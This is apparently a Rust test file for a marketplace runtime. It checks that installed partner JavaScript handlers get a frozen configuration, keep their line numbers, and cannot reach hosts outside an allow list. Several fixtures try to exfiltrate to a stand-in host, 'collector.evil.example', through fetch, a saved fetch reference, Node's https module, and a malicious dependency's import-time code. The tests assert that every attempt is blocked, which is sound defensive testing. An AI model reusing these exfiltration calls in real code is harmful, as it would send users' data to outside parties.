//! The code an installed copy runs, in the real runtime: the partner's handler gets
//! `event.configuration` on a frozen copy of the event, and `fetch` outside `network.hosts` is
//! refused before any request leaves.

use std::sync::Arc;

use actionflow_marketplace::wrap::{wrap, Mode};
use actionflow_runtime::{Event, ExecutionRequest, NoFiles, Secrets, Status};

use crate::{limits, runtime};

async fn run_installed(code: &str, hosts: &[&str]) -> actionflow_runtime::Outcome {
    run_installed_with(code, hosts, Arc::new(NoFiles)).await
}

async fn run_installed_with(
    code: &str,
    hosts: &[&str],
    files: Arc<dyn actionflow_runtime::ModuleFiles>,
) -> actionflow_runtime::Outcome {
    let mut configuration = serde_json::Map::new();
    configuration.insert("GREETING".into(), "hello".into());
    let hosts: Vec<String> = hosts.iter().map(|h| (*h).to_owned()).collect();
    let wrapped = wrap(
        code,
        &["post-login".to_owned()],
        &configuration,
        &hosts,
        Mode::Installed {
            integration: "greeter",
            version: "1.2.3",
        },
    );
    assert_eq!(
        actionflow_marketplace::wrap::running_integration(&wrapped),
        Some(("greeter".to_owned(), "1.2.3".to_owned()))
    );
    let request = ExecutionRequest {
        tenant: "t".into(),
        action: "a".into(),
        version: format!("v-{}", actionflow_marketplace::digest(wrapped.as_bytes())),
        code: Arc::from(wrapped),
        files,
        trigger_id: "post-login".into(),
        event: Event::new(&serde_json::json!({"user": {"user_id": "u1"}})).expect("an event"),
        secrets: Secrets::default(),
        limits: limits(),
    };
    runtime()
        .execute(request)
        .await
        .expect("the runtime runs it")
}

#[tokio::test]
async fn configuration_arrives_as_event_configuration_on_a_frozen_event() {
    let code = "exports.onExecutePostLogin = async (event, api) => {\n\
                  api.accessToken.setCustomClaim('greeting', event.configuration.GREETING);\n\
                  api.accessToken.setCustomClaim('frozen', Object.isFrozen(event) && Object.isFrozen(event.configuration));\n\
                  api.accessToken.setCustomClaim('user', event.user.user_id);\n\
                };\n";
    let outcome = run_installed(code, &[]).await;
    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
    let args: Vec<serde_json::Value> = outcome
        .api_calls
        .iter()
        .map(|c| serde_json::Value::Array(c.args.clone()))
        .collect();
    assert_eq!(
        args,
        [
            serde_json::json!(["greeting", "hello"]),
            serde_json::json!(["frozen", true]),
            serde_json::json!(["user", "u1"]),
        ]
    );
}

#[tokio::test]
async fn fetch_outside_network_hosts_is_blocked_when_installed() {
    let code = "exports.onExecutePostLogin = async (event) => {\n\
                  await globalThis.fetch('https://collector.evil.example/x');\n\
                };\n";
    let outcome = run_installed(code, &["api.example.com"]).await;
    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
    let error = outcome.error.expect("an error");
    assert!(
        error
            .message
            .contains("fetch to collector.evil.example is not allowed"),
        "{error:?}"
    );
}

#[tokio::test]
async fn the_original_fetch_is_out_of_the_partners_reach() {
    // Neither a name of the wrapper nor saving globalThis.fetch first gives the unchecked fetch.
    let code = "const saved = globalThis.fetch;\n\
                exports.onExecutePostLogin = async (event) => {\n\
                  if (typeof __af_fetch_original !== 'undefined') throw new Error('reachable');\n\
                  await saved('https://collector.evil.example/x');\n\
                };\n";
    let outcome = run_installed(code, &["api.example.com"]).await;
    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
    let error = outcome.error.expect("an error");
    assert!(error.message.contains("is not allowed"), "{error:?}");
}

/// Packages do not go through the wrapper's `fetch`: Node's `https` (axios, the AWS SDK…) and a
/// `fetch` kept from before the wrapper's are held to `network.hosts` by the runtime itself.
#[tokio::test]
async fn node_sockets_and_any_fetch_stay_on_network_hosts() {
    let code = "const https = require('https');\n\
                exports.onExecutePostLogin = async (event, api) => {\n\
                  const viaNode = await new Promise((resolve) => {\n\
                    https.get('https://collector.evil.example/x', () => resolve('reached'))\n\
                      .on('error', (e) => resolve(e.message));\n\
                  });\n\
                  api.accessToken.setCustomClaim('node', viaNode);\n\
                  const widen = (() => { try { require('actionflow:network').restrict(['collector.evil.example']); return 'widened'; } catch (e) { return e.message; } })();\n\
                  api.accessToken.setCustomClaim('widen', widen);\n\
                };\n";
    let outcome = run_installed(code, &["api.example.com"]).await;
    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
    let claim = |name: &str| {
        outcome
            .api_calls
            .iter()
            .find(|c| c.args[0] == name)
            .map(|c| c.args[1].as_str().unwrap_or_default().to_owned())
            .unwrap_or_default()
    };
    assert!(
        claim("node").contains("collector.evil.example"),
        "{outcome:?}"
    );
    assert_ne!(claim("node"), "reached");
    assert!(claim("widen").contains("already restricted"), "{outcome:?}");
}

#[tokio::test]
async fn the_partners_lines_keep_their_numbers() {
    let code = "exports.onExecutePostLogin = async (event) => {\n\
                  const x = 1;\n\
                  throw new Error('at line three ' + x);\n\
                };\n";
    let outcome = run_installed(code, &[]).await;
    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
    assert_eq!(outcome.error.expect("an error").line, Some(3));
}

fn claims(outcome: &actionflow_runtime::Outcome) -> Vec<serde_json::Value> {
    outcome
        .api_calls
        .iter()
        .map(|c| serde_json::Value::Array(c.args.clone()))
        .collect()
}

/// An ES module: its exports (named, renamed, default) are the wrapper's to re-export; the handler
/// gets `event.configuration`, and the partner's lines keep their numbers.
#[tokio::test]
async fn an_es_module_runs_installed_with_its_lines() {
    let code = "const greet = (who) => `hi ${who}`;\n\
                async function handler(event, api) {\n\
                  api.accessToken.setCustomClaim('greeting', event.configuration.GREETING);\n\
                  api.accessToken.setCustomClaim('frozen', Object.isFrozen(event));\n\
                }\n\
                export { handler as onExecutePostLogin };\n\
                export default greet;\n";
    let outcome = run_installed(code, &[]).await;
    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
    assert_eq!(
        claims(&outcome),
        [
            serde_json::json!(["greeting", "hello"]),
            serde_json::json!(["frozen", true]),
        ]
    );
    let code = "import path from 'node:path';\n\
                export const onExecutePostLogin = async (event) => {\n\
                  throw new Error('at line three ' + path.sep);\n\
                };\n";
    let outcome = run_installed(code, &[]).await;
    assert_eq!(outcome.status, Status::Threw, "{outcome:?}");
    assert_eq!(outcome.error.expect("an error").line, Some(3));
}

/// A dependency's top-level code runs before the partner's module body: the wrapper's first
/// import has already restricted the network by then, so neither its `fetch` nor its sockets
/// leave for a host outside `network.hosts`.
#[tokio::test]
async fn an_es_modules_dependencies_are_restricted_while_imported() {
    let dir = tempfile::tempdir().expect("a temp dir");
    let package = dir.path().join("leaky");
    std::fs::create_dir_all(&package).expect("a folder");
    std::fs::write(
        package.join("package.json"),
        r#"{"name": "leaky", "version": "1.0.0", "main": "index.js"}"#,
    )
    .expect("written");
    std::fs::write(
        package.join("index.js"),
        "globalThis.leakFetch = fetch('https://collector.evil.example/x')\n\
           .then(() => 'reached', (e) => e.message);\n\
         globalThis.leakSocket = new Promise((resolve) => {\n\
           require('https').get('https://collector.evil.example/y', () => resolve('reached'))\n\
             .on('error', (e) => resolve(e.message));\n\
         });\n\
         module.exports = 1;\n",
    )
    .expect("written");
    let mounts = [("/node_modules/leaky".to_owned(), package)].into();
    let files = Arc::new(actionflow_runtime::PackageMounts::new(mounts));
    let code = "import leaky from 'leaky';\n\
                export async function onExecutePostLogin(event, api) {\n\
                  api.accessToken.setCustomClaim('fetch', await globalThis.leakFetch);\n\
                  api.accessToken.setCustomClaim('socket', await globalThis.leakSocket);\n\
                }\n";
    let outcome = run_installed_with(code, &["api.example.com"], files).await;
    assert_eq!(outcome.status, Status::Completed, "{outcome:?}");
    for claim in claims(&outcome) {
        let text = claim[1].as_str().unwrap_or_default();
        assert!(text.contains("collector.evil.example"), "{outcome:?}");
        assert_ne!(text, "reached");
    }
}
